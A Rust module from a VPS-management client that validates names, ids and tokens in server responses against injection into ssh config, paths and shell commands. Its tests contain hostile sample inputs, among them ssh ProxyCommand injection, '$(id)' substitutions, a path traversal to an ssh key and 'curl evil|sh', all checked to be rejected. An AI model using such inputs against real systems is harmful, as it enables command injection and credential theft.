//! Validates names and ids in the host's responses when they arrive: they are used in ssh's
//! configuration, paths, completions and printed commands, where a compromised host must not inject
//! text. Text that is only displayed is not validated here: `ui` strips its control characters.

use std::net::IpAddr;

use kohakuriver_api::{
    AuditEntry, AuditVerified, AuthStatus, CaCertificate, CreatedToken, CreatedVps, Event, Group,
    Health, Invitation, JoinToken, LoggedIn, Message, Node, NodeHealth, OidcSession, PasswordReset,
    QuotaUse, Received, Rejected, Secret, SnapshotCreated, SnapshotList, SnapshotsDeleted,
    SshCertificate, SshKey, Task, Token, User, UserKey, VmImages, VmInstanceDeleted, VmInstances,
};
use kohakuriver_model::{InstanceId, InstanceName, NodeName, QualifiedName, VmImageName};

/// A field with an invalid value.
#[derive(Debug, PartialEq, Eq)]
pub struct Invalid {
    pub what: &'static str,
    pub text: String,
}

type Check = Result<(), Invalid>;

/// A response of the host. Each type lists its names and ids.
pub trait Checked {
    /// # Errors
    /// A name or an id is invalid.
    fn check(&self) -> Check {
        Ok(())
    }
}

impl<T: Checked> Checked for Vec<T> {
    fn check(&self) -> Check {
        self.iter().try_for_each(Checked::check)
    }
}

impl<T: Checked> Checked for Option<T> {
    fn check(&self) -> Check {
        self.as_ref().map_or(Ok(()), Checked::check)
    }
}

/// Responses whose text is only displayed, or parsed where it is used.
macro_rules! only_displayed {
    ($($answer:ty),* $(,)?) => { $(impl Checked for $answer {})* };
}

only_displayed!(
    AuditEntry,
    AuditVerified,
    AuthStatus,
    CaCertificate,
    Health,
    OidcSession,
    Rejected,
    SshCertificate,
    SshKey,
    UserKey,
    serde_json::Value,
);

fn require(is_valid: bool, what: &'static str, text: &str) -> Check {
    if is_valid { Ok(()) } else { Err(Invalid { what, text: text.to_owned() }) }
}

fn parsed<T: std::str::FromStr>(what: &'static str, text: &str) -> Check {
    require(text.parse::<T>().is_ok(), what, text)
}

fn maybe(text: Option<&String>, check: impl FnOnce(&str) -> Check) -> Check {
    text.map_or(Ok(()), |text| check(text))
}

fn id(text: &str) -> Check {
    parsed::<InstanceId>("id of a VPS", text)
}

fn name(text: &str) -> Check {
    parsed::<InstanceName>("name of a VPS", text)
}

/// Checks a reference; empty from a host of an older version.
fn reference(text: &str) -> Check {
    let is_name = text.parse::<InstanceName>().is_ok() || text.parse::<QualifiedName>().is_ok();
    let is_valid = text.is_empty() || is_name || text.parse::<InstanceId>().is_ok();
    require(is_valid, "name of a VPS", text)
}

/// Checks a value that may be empty.
fn node(text: &str) -> Check {
    if text.is_empty() { Ok(()) } else { parsed::<NodeName>("name of a node", text) }
}

/// Checks an account or group name, by older and looser rules than those for new names.
fn account(text: &str) -> Check {
    let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_');
    let is_valid = text.len() <= 64 && text.bytes().all(plain) && !text.starts_with('-');
    require(is_valid, "name of an account or group", text)
}

/// Checks the decider of a request: an account, or `rule of group NAME` for an automatic approval.
fn approver(text: &str) -> Check {
    account(text.strip_prefix("rule of group ").unwrap_or(text))
}

/// Checks a keyword: `running`, `docker`, `pending_approval`, of any version of the host.
fn word(text: &str) -> Check {
    let plain = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'_' | b'-');
    require(text.len() <= 32 && text.bytes().all(plain), "word for a state", text)
}

/// Checks text that is printed to be copied into a shell.
fn token(text: &str) -> Check {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"._-~+/=:@[]".contains(&b);
    let is_valid = !text.is_empty() && text.bytes().all(plain) && !text.starts_with('-');
    require(is_valid, "token", text)
}

fn secret(Secret(text): &Secret) -> Check {
    // The text of a secret is not repeated.
    token(text).map_err(|_| Invalid { what: "token", text: "...".to_owned() })
}

impl Checked for Task {
    fn check(&self) -> Check {
        id(&self.task_id)?;
        maybe(self.name.as_ref(), name)?;
        reference(&self.reference)?;
        maybe(self.offered_to.as_ref(), account)?;
        maybe(self.approval_revision.as_ref(), word)?;
        word(&self.status)?;
        word(&self.vps_backend)?;
        maybe(self.transition.as_ref(), word)?;
        maybe(self.assigned_node.as_ref(), node)?;
        maybe(self.requested_node.as_ref(), node)?;
        maybe(self.vm_image.as_ref(), |text| parsed::<VmImageName>("name of a VM image", text))?;
        maybe(self.vm_ip.as_ref(), |text| parsed::<IpAddr>("address of a VPS", text))?;
        maybe(self.owner_username.as_ref(), account)?;
        maybe(self.approved_by_username.as_ref(), approver)?;
        self.shares.iter().try_for_each(|share| {
            word(&share.kind)?;
            word(&share.level)?;
            word(&share.state)?;
            account(&share.name)
        })
    }
}

impl Checked for Received {
    fn check(&self) -> Check {
        self.shares.iter().try_for_each(|share| {
            id(&share.task_id)?;
            reference(&share.reference)?;
            maybe(share.owner_username.as_ref(), account)?;
            word(&share.level)?;
            word(&share.state)?;
            share.groups.iter().try_for_each(|group| account(group))
        })?;
        self.offers.iter().try_for_each(|offer| {
            id(&offer.task_id)?;
            reference(&offer.reference)?;
            maybe(offer.owner_username.as_ref(), account)?;
            account(&offer.offered_by)?;
            word(&offer.vps_backend)
        })
    }
}

impl Checked for CreatedVps {
    fn check(&self) -> Check {
        id(&self.task_id)?;
        node(&self.assigned_node.hostname)?;
        self.task.check()
    }
}

impl Checked for Message {
    fn check(&self) -> Check {
        id(&self.task_id)
    }
}

impl Checked for Event {
    fn check(&self) -> Check {
        id(&self.task_id)
    }
}

impl Checked for SnapshotList {
    fn check(&self) -> Check {
        self.snapshots.iter().try_for_each(|snapshot| tag(&snapshot.tag))
    }
}

impl Checked for SnapshotCreated {
    fn check(&self) -> Check {
        tag(&self.tag)
    }
}

impl Checked for SnapshotsDeleted {}

/// Checks a segment of a request's path.
fn tag(text: &str) -> Check {
    let is_valid = !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
    require(is_valid, "tag of a snapshot", text)
}

impl Checked for Node {
    fn check(&self) -> Check {
        node(&self.hostname)?;
        word(&self.status)
    }
}

impl Checked for NodeHealth {
    fn check(&self) -> Check {
        node(&self.hostname)?;
        word(&self.status)
    }
}

impl Checked for JoinToken {
    fn check(&self) -> Check {
        token(&self.token)?;
        require(token(&self.address).is_ok(), "address of a host", &self.address)
    }
}

impl Checked for VmImages {
    fn check(&self) -> Check {
        let of = |image: &str| parsed::<VmImageName>("name of a VM image", image);
        self.images.iter().try_for_each(|image| of(&image.name))
    }
}

impl Checked for VmInstances {
    fn check(&self) -> Check {
        self.nodes.iter().try_for_each(|one| {
            node(&one.hostname)?;
            one.instances.iter().flatten().try_for_each(|instance| id(&instance.task_id))
        })
    }
}

impl Checked for VmInstanceDeleted {
    fn check(&self) -> Check {
        id(&self.task_id)
    }
}

impl Checked for User {
    fn check(&self) -> Check {
        account(&self.username)?;
        word(&self.role)
    }
}

impl Checked for LoggedIn {
    fn check(&self) -> Check {
        self.user.check()
    }
}

impl Checked for Group {
    fn check(&self) -> Check {
        account(&self.name)?;
        self.members.iter().try_for_each(|member| account(&member.username))
    }
}

impl Checked for QuotaUse {
    fn check(&self) -> Check {
        self.groups.iter().try_for_each(|group| account(&group.name))
    }
}

impl Checked for Token {
    fn check(&self) -> Check {
        word(&self.role)
    }
}

impl Checked for CreatedToken {
    fn check(&self) -> Check {
        word(&self.role)?;
        secret(&self.token)
    }
}

impl Checked for Invitation {
    fn check(&self) -> Check {
        word(&self.role)?;
        secret(&self.token)
    }
}

impl Checked for PasswordReset {
    fn check(&self) -> Check {
        secret(&self.token)
    }
}

#[cfg(test)]
mod tests {
    use kohakuriver_api::Share;
    use proptest::prelude::*;

    use super::*;

    fn task() -> Task {
        Task {
            task_id: "7398213345412345856".to_owned(),
            name: Some("web".to_owned()),
            status: "pending_approval".to_owned(),
            assigned_node: Some("gpu-01.lab".to_owned()),
            owner_username: Some("_anonymous".to_owned()),
            ..Task::default()
        }
    }

    #[test]
    fn valid_names_of_hosts_pass_and_others_do_not() {
        assert_eq!(task().check(), Ok(()));
        for approver in ["olga", "rule of group students"] {
            let approved = Some(approver.to_owned());
            assert_eq!(Task { approved_by_username: approved, ..task() }.check(), Ok(()));
        }
        let bad = "web\n    ProxyCommand touch PWNED\nHost zzz";
        let of = || Some(bad.to_owned());
        let share = Share { name: "$(id)".to_owned(), ..Share::default() };
        for task in [
            Task { name: of(), ..task() },
            Task { name: Some("$(touch PWNED)".to_owned()), ..task() },
            Task { task_id: "../../.ssh/id_ed25519".to_owned(), ..task() },
            Task { task_id: String::new(), ..task() },
            Task { status: "running\nhint: x".to_owned(), ..task() },
            Task { assigned_node: of(), ..task() },
            Task { requested_node: of(), ..task() },
            Task { owner_username: of(), ..task() },
            Task { reference: bad.to_owned(), ..task() },
            Task { reference: "web.$(id)".to_owned(), ..task() },
            Task { offered_to: of(), ..task() },
            Task { approved_by_username: of(), ..task() },
            Task { approved_by_username: Some("rule of group a\nb".to_owned()), ..task() },
            Task { approved_by_username: Some("rule of the house".to_owned()), ..task() },
            Task { owner_username: Some("-x".to_owned()), ..task() },
            Task { vm_image: Some("../x".to_owned()), ..task() },
            Task { vm_ip: Some("10.0.0.1; id".to_owned()), ..task() },
            Task { shares: vec![share], ..task() },
        ] {
            assert!(task.check().is_err(), "{task:?}");
            assert!(vec![task.clone()].check().is_err(), "{task:?}");
        }
        let join = |token: &str, address: &str| JoinToken {
            token: token.to_owned(),
            expires_at: String::new(),
            address: address.to_owned(),
        };
        assert_eq!(join("kr1.a-b_c", "[::1]:8001").check(), Ok(()));
        assert!(join("x;curl evil|sh", "h:1").check().is_err());
        assert!(join("x", "h:1\n  kohakuriver runner --join y").check().is_err());
    }

    proptest! {
        #[test]
        fn checked_name_is_one_shell_word(text in any::<String>()) {
            let task = Task { name: Some(text.clone()), ..task() };
            let is_word = text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
            prop_assert!(task.check().is_err() || is_word);
        }
    }
}
